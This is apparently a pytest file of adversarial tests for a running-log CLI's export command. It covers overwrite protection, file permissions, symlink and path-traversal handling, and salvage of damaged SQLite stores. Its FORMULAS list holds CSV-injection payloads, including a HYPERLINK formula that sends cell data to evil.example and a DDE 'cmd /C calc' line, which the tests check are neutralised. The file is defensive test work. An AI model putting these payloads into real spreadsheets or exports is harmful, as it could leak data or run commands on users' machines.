"""``export``: never over what is there, private files, cells a spreadsheet cannot run, and a salvage of a damaged store."""

from __future__ import annotations

import csv
import sqlite3
import stat
from pathlib import Path

from tests.adversarial.conftest import contents, read_only
from tests.conftest import EXAMPLES

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "\rCR"]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_existing_files_are_never_overwritten_without_force(cli, seeded, tmp_path):
    folder = tmp_path / "strava-export"
    folder.mkdir()
    (folder / "activities.csv").write_text("Activity ID,Activity Name\n1,Strava's own\n")
    result = cli("export", str(folder))
    assert result.exit_code == 1
    assert "overwrite 1 existing file" in result.output and "activities.csv" in result.output and "--force" in result.output
    assert (folder / "activities.csv").read_text() == "Activity ID,Activity Name\n1,Strava's own\n"
    assert sorted(p.name for p in folder.iterdir()) == ["activities.csv"]  # nothing else written either

    assert cli("export", str(folder), "--force").exit_code == 0
    assert _rows(folder / "activities.csv")[0]["source_name"] == "run.fit"


def test_exported_files_are_private_like_the_store(cli, tmp_path):
    folder = tmp_path / "out"
    assert cli("export", str(folder)).exit_code == 0
    written = [p for p in folder.rglob("*")]
    assert len(written) == 5  # activities, shoes, pain, samples/, samples/<id>.csv
    for path in written:
        expected = 0o700 if path.is_dir() else 0o600
        assert stat.S_IMODE(path.stat().st_mode) == expected, path


def test_csv_cells_that_would_run_as_formulas_are_neutralised(cli, seeded, tmp_path):
    db = sqlite3.connect(seeded)
    with db:
        db.execute("UPDATE activities SET title = ?", (FORMULAS[0],))
        db.executemany("INSERT INTO shoes (name, notes, created_at) VALUES (?, ?, '2026-01-01')", [(f, f) for f in FORMULAS[1:]])
        db.executemany("INSERT INTO pain (local_time, local_date, score, location, timing, note, created_at) VALUES ('2026-01-01T07:00', '2026-01-01', 2, 'lower-back', 'morning', ?, 'x')", [(f,) for f in FORMULAS])
    db.close()
    folder = tmp_path / "out"
    assert cli("export", str(folder), "--no-samples").exit_code == 0
    cells = [row["title"] for row in _rows(folder / "activities.csv")]
    cells += [row[k] for row in _rows(folder / "shoes.csv") if row["name"] != "Pegasus" for k in ("name", "notes")]
    cells += [row["note"] for row in _rows(folder / "pain.csv") if row["note"] != "stiff"]
    assert len(cells) == 1 + 2 * (len(FORMULAS) - 1) + len(FORMULAS)
    assert all(cell.startswith("'") and cell[1:] in FORMULAS for cell in cells), cells
    numbers = _rows(folder / "activities.csv")[0]
    assert float(numbers["distance_m"]) > 10_000  # numbers stay numbers


def test_a_symlink_in_the_export_folder_is_replaced_not_written_through(cli, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me")
    (folder / "pain.csv").symlink_to(precious)
    result = cli("export", str(folder), "--no-samples")
    assert result.exit_code == 1 and "pain.csv" in result.output
    assert cli("export", str(folder), "--no-samples", "--force").exit_code == 0
    assert precious.read_text() == "keep me"
    assert not (folder / "pain.csv").is_symlink() and _rows(folder / "pain.csv")[0]["note"] == "stiff"


def test_an_export_folder_that_is_a_link_to_a_folder_is_fine(cli, tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real, target_is_directory=True)
    assert cli("export", str(tmp_path / "link"), "--no-samples").exit_code == 0
    assert (real / "activities.csv").is_file()


def test_a_hostile_activity_id_never_becomes_a_path(cli, seeded, tmp_path):
    """A restored store is someone else's file: an id like ``../../x`` must not pick where samples go."""
    db = sqlite3.connect(seeded)
    with db:
        db.execute("PRAGMA foreign_keys = OFF")
        (old,) = db.execute("SELECT id FROM activities").fetchone()
        for table, column in (("activities", "id"), ("samples", "activity_id"), ("segments", "activity_id"), ("laps", "activity_id"), ("fatigue", "activity_id")):
            db.execute(f"UPDATE {table} SET {column} = '../../escaped' WHERE {column} = ?", (old,))
    db.close()
    folder = tmp_path / "deep" / "out"
    result = cli("export", str(folder))
    assert result.exit_code == 1 and "not a safe file name" in result.output
    assert not list(tmp_path.rglob("escaped*"))
    assert _rows(folder / "activities.csv")[0]["id"] == "../../escaped"


def _damage_samples(path: Path) -> None:
    """Overwrite the middle of every page that holds sample blobs (the bulk of the file), as a bad disk would."""
    db = sqlite3.connect(path)
    pages = [p for (p,) in db.execute("SELECT pageno FROM dbstat WHERE name = 'samples' AND pagetype = 'overflow'")]
    db.close()
    data = bytearray(path.read_bytes())
    for page in pages:
        start = (page - 1) * 4096 + 1000
        data[start : start + 1000] = b"\x5a" * 1000
    path.write_bytes(data)


def test_export_from_a_damaged_store_salvages_what_is_readable(cli, seeded, tmp_path):
    _damage_samples(seeded)
    folder = tmp_path / "out"
    result = cli("export", str(folder))
    assert result.exit_code == 1
    assert "could not be read" in result.output and "samples of activity" in result.output
    assert _rows(folder / "activities.csv")[0]["source_name"] == "run.fit"
    assert _rows(folder / "shoes.csv")[0]["name"] == "Pegasus" and _rows(folder / "pain.csv")[0]["note"] == "stiff"


def test_export_from_a_truncated_store_salvages_what_is_readable(cli, seeded, tmp_path):
    with seeded.open("r+b") as handle:
        handle.truncate(seeded.stat().st_size // 2)
    folder = tmp_path / "out"
    result = cli("export", str(folder))
    assert result.exit_code == 1
    assert "is damaged" in result.output and "exporting what can be read" in result.output
    assert (folder / "shoes.csv").exists() and (folder / "pain.csv").exists()
    written = sum(len(_rows(folder / f"{name}.csv")) for name in ("activities", "shoes", "pain"))
    assert written >= 1  # something came out of the half that is left


def test_exporting_leaves_the_store_as_it_was(cli, seeded, tmp_path):
    before = contents(seeded)
    assert cli("export", str(tmp_path / "out"), "--format", "json").exit_code == 0
    assert contents(seeded) == before


def test_formulas_from_a_real_file_title(cli, tmp_path):
    """A GPX ``<name>`` is someone else's text; the title column is neutralised in the CSV."""
    gpx = (EXAMPLES / "exports" / "2026-08-04_easy.gpx").read_text()
    (tmp_path / "f.gpx").write_text(gpx.replace("<name>Easy run</name>", "<name>=HYPERLINK(&quot;http://x&quot;)</name>"))
    assert cli("import", str(tmp_path / "f.gpx")).exit_code == 0
    assert cli("export", str(tmp_path / "out"), "--no-samples").exit_code == 0
    titles = {row["title"] for row in _rows(tmp_path / "out" / "activities.csv")}
    assert "'=HYPERLINK(\"http://x\")" in titles


def test_exporting_into_a_file_or_an_unwritable_folder_is_one_clear_error(cli, tmp_path):
    a_file = tmp_path / "notes.txt"
    a_file.write_text("mine")
    into_file = cli("export", str(a_file))
    assert into_file.exit_code == 1
    assert "is not a folder" in into_file.output and "internal error" not in into_file.output
    assert a_file.read_text() == "mine"
    locked = tmp_path / "locked"
    locked.mkdir()
    with read_only(locked):
        result = cli("export", str(locked / "out"))
        backup = cli("backup", str(locked / "b.sqlite"))
    for outcome in (result, backup):
        assert outcome.exit_code == 1
        assert "internal error" not in outcome.output and str(locked) in outcome.output.replace("\n", "")
    assert list(locked.iterdir()) == []
